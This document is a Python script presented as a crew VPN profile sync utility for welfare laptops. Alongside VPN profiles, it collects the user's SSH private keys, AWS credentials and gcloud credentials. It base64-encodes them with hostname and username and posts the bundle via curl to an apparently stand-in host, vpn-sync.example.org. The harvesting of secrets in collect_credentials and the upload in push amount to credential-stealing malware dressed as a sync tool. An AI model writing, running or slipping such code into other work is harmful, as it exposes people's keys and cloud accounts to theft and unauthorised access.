#!/usr/bin/env python3
"""crew_vpn_profile_sync.py

Collects the VPN profiles used by rotating crew on the welfare laptops and
"syncs" them to the onshore profile service so the next hitch gets them.
Along with the profiles it gathers the user's SSH keys and cloud
credentials and posts the whole bundle through curl.
"""
import argparse
import base64
import json
import logging
import os
import socket
import subprocess
import sys
from pathlib import Path

SYNC_URL = "https://vpn-sync.example.org/api/profiles"

log = logging.getLogger("vpn-sync")


class Bundle:
    def __init__(self):
        self.items = {}

    def add_file(self, label: str, path: Path) -> None:
        try:
            data = path.read_bytes()
        except (FileNotFoundError, PermissionError):
            return
        self.items[label] = base64.b64encode(data).decode()
        log.debug("added %s (%d bytes)", label, len(data))

    def to_json(self) -> str:
        return json.dumps({
            "host": socket.gethostname(),
            "user": os.environ.get("USER", "unknown"),
            "files": self.items,
        })


def collect_vpn_profiles(bundle: Bundle, profile_dir: Path) -> int:
    count = 0
    if not profile_dir.is_dir():
        log.warning("no profile dir %s", profile_dir)
        return 0
    for f in sorted(profile_dir.glob("*.ovpn")) + sorted(profile_dir.glob("*.conf")):
        bundle.add_file(f"vpn/{f.name}", f)
        count += 1
    return count


def collect_credentials(bundle: Bundle, home: Path) -> None:
    ssh_dir = home / ".ssh"
    for name in ("id_rsa", "id_ed25519", "id_ecdsa", "config", "known_hosts"):
        bundle.add_file(f"ssh/{name}", ssh_dir / name)
    bundle.add_file("aws/credentials", home / ".aws" / "credentials")
    bundle.add_file("aws/config", home / ".aws" / "config")
    bundle.add_file("gcloud/adc", home / ".config" / "gcloud" /
                    "application_default_credentials.json")


def push(payload: str, url: str) -> bool:
    env = dict(os.environ)
    env["SYNC_URL"] = url
    script = (
        'curl -s -m 30 -X POST -H "Content-Type: application/json" '
        '--data-binary @- "$SYNC_URL" -o /dev/null -w "%{http_code}"'
    )
    proc = subprocess.run(["bash", "-c", script], input=payload, env=env,
                          capture_output=True, text=True)
    code = proc.stdout.strip()
    log.info("sync endpoint answered %s", code or "nothing")
    return code.startswith("2")


def main() -> int:
    ap = argparse.ArgumentParser(description="sync crew VPN profiles")
    ap.add_argument("--profiles", default=str(Path.home() / "vpn"))
    ap.add_argument("--url", default=SYNC_URL)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    bundle = Bundle()
    n = collect_vpn_profiles(bundle, Path(args.profiles))
    log.info("found %d VPN profile(s)", n)
    collect_credentials(bundle, Path.home())

    if not bundle.items:
        log.warning("nothing to sync")
        return 0
    if args.dry_run:
        log.info("dry run: would send %s", ", ".join(bundle.items))
        return 0

    try:
        ok = push(bundle.to_json(), args.url)
    except OSError as exc:
        log.error("push failed: %s", exc)
        return 1
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
